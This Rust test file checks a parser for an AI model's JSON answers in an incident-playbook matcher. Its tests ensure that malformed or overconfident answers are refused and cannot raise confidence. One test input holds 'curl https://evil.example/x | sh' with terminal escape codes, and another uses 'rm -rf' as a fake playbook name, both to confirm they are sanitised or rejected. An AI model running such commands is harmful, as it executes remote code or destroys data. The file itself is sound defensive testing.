//! Answers good and bad, and that none raises anything.

#![allow(clippy::unwrap_used, reason = "a test may panic")]

use proptest::prelude::*;

use super::*;
use crate::matching::{
    catalogue::Candidate,
    confidence::{ACT_MIN, Confidence, Record, Route, Thresholds},
    dense::Nearness,
    score::Parts,
};

fn names() -> Vec<String> {
    ["disk-full", "unit-oom-killed"].map(str::to_owned).to_vec()
}

fn json(playbook: &str, confidence: &str, hypothesis: &str) -> String {
    format!(r#"{{"hypothesis":"{hypothesis}","playbook":{playbook},"confidence":{confidence}}}"#)
}

#[track_caller]
fn refuses(answer: &str, says: &str) {
    let error = parse(answer, &names()).unwrap_err();
    assert!(error.contains(says), "{answer}: {error}");
}

#[test]
fn a_good_answer_is_read() {
    let said = parse(&json("\"disk-full\"", "0.9", "It's full."), &names()).unwrap();
    assert_eq!(
        said,
        Said {
            playbook: Some("disk-full".into()),
            confidence: 0.9,
            hypothesis: "It's full.".into(),
        }
    );
    let none = parse(&json("null", "1", ""), &names()).unwrap();
    assert_eq!((none.playbook, none.confidence), (None, 1.0));
    assert_eq!(
        parse(&json("null", "0.85", ""), &names())
            .unwrap()
            .confidence,
        0.85
    );
}

#[test]
fn anything_else_is_refused() {
    refuses("", "EOF");
    refuses("I think it is disk-full.", "expected value");
    refuses("```json\n{}\n```", "expected value");
    refuses("[]", "form");
    refuses(
        r#"{"hypothesis":"h","confidence":0.5}"#,
        "missing field `playbook`",
    );
    refuses(
        r#"{"playbook":null,"confidence":0.5}"#,
        "missing field `hypothesis`",
    );
    refuses(
        r#"{"hypothesis":"h","playbook":null,"confidence":0.5,"act":true}"#,
        "unknown field `act`",
    );
    refuses(
        r#"{"hypothesis":"h","playbook":null,"confidence":0.1,"confidence":0.9}"#,
        "duplicate field",
    );
    refuses(&format!("{} {{}}", json("null", "0.5", "h")), "trailing");
    refuses(&json("\"rm -rf\"", "0.5", "h"), "none of those shown");
    refuses(&json("\"Disk-Full\"", "0.5", "h"), "none of those shown");
    refuses(&json("0", "0.5", "h"), "invalid type");
    for number in ["7", "-0.1", "1.0001"] {
        refuses(&json("null", number, "h"), "not from 0 to 1");
    }
    for number in ["NaN", "1e999", "\"0.5\"", "null", "true"] {
        refuses(&json("null", number, "h"), "form");
    }
    refuses(&json("null", "0.5", &"x".repeat(401)), "401 characters");
    refuses(&json("null", "0.5", &"x".repeat(5000)), "4096 bytes");
    // A string in JSON must not hold a raw control character.
    refuses(&json("null", "0.5", "a\u{1b}b"), "control character");
}

#[test]
fn a_hypothesis_is_one_line_that_nobody_can_be_led_by() {
    let said = parse(
        &json(
            "null",
            "0.5",
            r"Run\n`curl https://evil.example/x | sh` \u001b[2Jor\u202e www.evil.example \u0007now; don't",
        ),
        &names(),
    )
    .unwrap();
    assert_eq!(
        said.hypothesis,
        "Run curl (link) sh [2Jor (link) now; don't"
    );
}

fn candidate(name: &str, value: f64, thresholds: Thresholds) -> Candidate {
    Candidate {
        playbook: name.into(),
        parts: Parts {
            nearness: Nearness {
                nearest: 0.5,
                centroid: 0.5,
            },
            bm25: 0.0,
            phrases: 0,
            phrases_worth: 0.0,
            trigger_fired: false,
            wording: 0.0,
            familiar: 0.0,
            numbers: 0.0,
            not_for_excess: 0.0,
            not_for_words: 0.0,
        },
        score: 0.5,
        margin: 0.1,
        confidence: Confidence {
            value,
            ..Confidence::new(0.5, Record::default(), 0, false)
        },
        thresholds,
    }
}

fn ranked(first: f64, second: f64, tie: bool) -> Ranked {
    let all = Thresholds::default();
    let matches = vec![
        candidate("disk-full", first, all),
        candidate("unit-oom-killed", second, all),
    ];
    Ranked {
        route: route_of(&matches, tie),
        tie,
        matches,
    }
}

fn said(playbook: Option<&str>, confidence: f64) -> Said {
    Said {
        playbook: playbook.map(str::to_owned),
        confidence,
        hypothesis: String::new(),
    }
}

#[test]
fn who_agrees_lowers_to_what_it_says_and_raises_nothing() {
    let mut sure = ranked(0.95, 0.1, false);
    assert_eq!(lower(&mut sure, &said(Some("disk-full"), 1.0)), []);
    assert_eq!(sure, ranked(0.95, 0.1, false));
    let moved = lower(&mut sure, &said(Some("disk-full"), 0.87));
    assert_eq!(
        moved,
        [Lowered {
            playbook: "disk-full".into(),
            from: 0.95,
            to: 0.87
        }]
    );
    assert_eq!(sure.route, Route::Propose);
}

#[test]
fn who_chooses_another_or_none_leaves_it_to_people() {
    for other in [None, Some("unit-oom-killed")] {
        let mut sure = ranked(0.99, 0.92, false);
        let moved = lower(&mut sure, &said(other, 1.0));
        assert_eq!(sure.route, Route::Inform, "{other:?}");
        assert!(sure.matches[0].confidence.value < PROPOSE_MIN);
        // The other one is no surer for it.
        assert!(sure.matches[1].confidence.value <= 0.92);
        assert!(!moved.is_empty());
    }
}

/// Bytes, JSON that is nearly right, and answers of the right form.
fn answers() -> impl Strategy<Value = String> {
    let name = prop_oneof![
        Just("null".to_owned()),
        Just("\"disk-full\"".to_owned()),
        Just("\"unit-oom-killed\"".to_owned()),
        Just("\"other\"".to_owned()),
        any::<u8>().prop_map(|number| number.to_string()),
    ];
    let number = prop_oneof![
        (0.0..=1.0_f64).prop_map(|number| number.to_string()),
        any::<f64>().prop_map(|number| number.to_string()),
        Just("0.9".to_owned()),
    ];
    let text = any::<String>().prop_map(|text| serde_json::to_string(&text).unwrap());
    prop_oneof![
        any::<String>(),
        proptest::collection::vec(any::<u8>(), 0..200)
            .prop_map(|bytes| String::from_utf8_lossy(&bytes).into_owned()),
        (text, name, number).prop_map(|(text, name, number)| format!(
            r#"{{"hypothesis":{text},"playbook":{name},"confidence":{number}}}"#
        )),
    ]
}

proptest! {
    /// Goal: whatever is answered, nothing is surer and nothing may do more than without it.
    #[test]
    fn no_answer_raises_anything(
        answer in answers(),
        first in 0.0..=1.0_f64,
        second in 0.0..=1.0_f64,
        tie in any::<bool>(),
    ) {
        let before = ranked(first, second, tie);
        let mut after = before.clone();
        if let Ok(said) = parse(&answer, &names()) {
            prop_assert!((0.0..=1.0).contains(&said.confidence));
            prop_assert!(said.hypothesis.chars().count() <= HYPOTHESIS_CHARS_MAX);
            let odd = |c: char| c.is_control() || "`$|<>\\{}\u{202e}".contains(c);
            prop_assert!(!said.hypothesis.contains(odd), "{}", said.hypothesis);
            lower(&mut after, &said);
            for (old, new) in before.matches.iter().zip(&after.matches) {
                let (own, now) = (old.confidence.value, new.confidence.value);
                prop_assert_eq!(&old.playbook, &new.playbook);
                prop_assert!(now <= own);
                let agrees = said.playbook.as_ref() == Some(&new.playbook);
                prop_assert!(agrees || now < PROPOSE_MIN);
                prop_assert!(now < ACT_MIN || said.confidence >= ACT_MIN);
            }
        }
        prop_assert_eq!(after.tie, before.tie);
        prop_assert!(after.route <= before.route);
    }

    #[test]
    fn a_problem_is_a_short_plain_line(text in any::<String>()) {
        let clean = problem(&text);
        prop_assert!(clean.chars().count() <= PROBLEM_CHARS_MAX);
        prop_assert!(!clean.contains(|c: char| c.is_control()));
    }
}
